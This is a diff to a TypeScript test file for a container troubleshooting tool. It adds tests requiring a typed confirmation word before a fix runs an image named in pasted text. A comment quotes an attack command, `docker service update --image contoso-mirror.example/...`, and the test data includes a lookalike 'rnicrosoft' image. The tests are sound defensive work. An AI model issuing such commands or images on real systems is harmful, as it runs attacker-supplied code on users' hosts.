@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { commandToPaste, planFix, SECRET_MASK, summarizeFixes } from '../../../src/core/fixes/plan-fix.js';
+import { commandToPaste, imageRegistry, planFix, SECRET_MASK, summarizeFixes } from '../../../src/core/fixes/plan-fix.js';
 import { checkFixTemplate } from '../../../src/core/fixes/fill-template.js';
 import { checkRunnable } from '../../../src/core/fixes/runnable.js';
 import { formatArgv, tokenizeTemplate } from '../../../src/core/fixes/quote.js';
@@ -179,6 +179,46 @@ describe('planFix', () => {
     const r = planFix(withFix(command, shell), 'x', { v: 'a' });
     expect(!r.ok && r.error[0]?.message).toMatch(why);
   });
+});
+
+// Found by an attacker helper (attack44 F3): a pasted line chose the image a low-risk fix pulled and started, and one
+// `y` ran `docker service update --image contoso-mirror.example/iis:ltsc2019 web`.
+describe('planFix: an image the paste named asks for the typed word', () => {
+  const kb = realKb();
+  const topic = (id: string) => kb.topics.find((t) => t.id === id)!;
+  const pasted = { image: 'contoso-mirror.example/iis:ltsc2019' };
+
+  it('a low-risk fix that runs the image: the word is its id, and the plan names the image', () => {
+    const r = planFix(topic('container-start-resource-in-use'), 'run-process-isolated', {}, pasted);
+    expect(r.ok && r.value).toMatchObject({ risk: 'low', confirmWord: 'run-process-isolated', pastedImage: 'contoso-mirror.example/iis:ltsc2019' });
+  });
+
+  it('the same image typed by the user, and a read-only fix, need no word', () => {
+    const typed = planFix(topic('container-start-resource-in-use'), 'run-process-isolated', pasted);
+    expect(typed.ok && typed.value.confirmWord).toBeUndefined();
+    expect(typed.ok && typed.value.pastedImage).toBeUndefined();
+    const readOnly = kb.topics.flatMap((t) => t.fixes.filter((f) => f.readOnly && Object.values(f.params).some((p) => p.entity === 'image' && p.kind === 'image-ref')).map((f) => [t, f] as const));
+    for (const [t, f] of readOnly) {
+      const values = Object.fromEntries(Object.entries(f.params).filter(([, p]) => p.entity !== 'image').map(([n, p]) => [n, p.kind === 'container-name' ? 'web' : 'x']));
+      const r = planFix(t, f.id, values, pasted);
+      if (r.ok) expect(r.value.confirmWord, `${t.id}/${f.id}`).toBeUndefined();
+    }
+  });
+
+  it('the fixes meant to use another image than the one that failed do not take it from the paste', () => {
+    for (const [t, f] of [['swarm-update-service-image', 'update-service-image'], ['version-mismatch-error', 'pull-matching-image']] as const) {
+      expect(topic(t).fixes.find((x) => x.id === f)!.params.image!.entity, `${t}/${f}`).toBeUndefined();
+    }
+  });
+
+  it.each([
+    ['contoso-mirror.example/iis:ltsc2019', 'contoso-mirror.example'],
+    ['rnicrosoft/windows-servercore:ltsc2019', 'docker.io'],
+    ['nanoserver', 'docker.io'],
+    ['localhost/app:1', 'localhost'],
+    ['registry:5000/app:1', 'registry:5000'],
+    ['mcr.microsoft.com/windows/servercore:ltsc2022', 'mcr.microsoft.com'],
+  ])('imageRegistry(%s) is %s', (image, registry) => expect(imageRegistry(image)).toBe(registry));
 });
 
 describe('planFix problems carry an id and values for the UI', () => {
